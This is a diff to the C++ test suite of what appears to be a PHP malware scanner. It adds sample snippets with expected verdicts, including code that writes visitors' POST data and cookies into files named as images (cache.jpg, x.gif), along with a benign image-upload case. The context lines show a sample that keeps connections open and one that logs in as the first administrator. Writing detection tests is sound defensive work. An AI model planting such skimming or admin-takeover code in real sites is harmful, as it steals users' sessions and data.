@@ -278,6 +278,16 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
       {"connections kept open after the visitor left",
        "<?php ignore_user_abort(true); while (true) { $s = fsockopen($h, 80); fclose($s); }",
        Verdict::Suspicious},
+      {"cookies harvested into a file named as an image",
+       "<?php $d = base64_encode(serialize($_POST) . '--' . serialize($_COOKIE));\n"
+       "file_put_contents('media/catalog/1/cache.jpg', $d . \"\\n\", FILE_APPEND);",
+       Verdict::Threat},
+      {"cookies written through a handle of an image file",
+       "<?php $f = fopen('img/x.gif', 'a'); fwrite($f, json_encode($_COOKIE));", Verdict::Threat},
+      {"a drawing the browser sent stored as an image",
+       "<?php $png = base64_decode(substr($_POST['image'], 22));\n"
+       "file_put_contents('uploads/' . md5($png) . '.png', $png);",
+       Verdict::Clean},
       {"log-in as the first administrator",
        "<?php foreach ($wpdb->get_results('SELECT ID FROM u') as $u) {\n"
        "if (user_can($u->ID, 'administrator')) { wp_set_current_user($u->ID);\n"
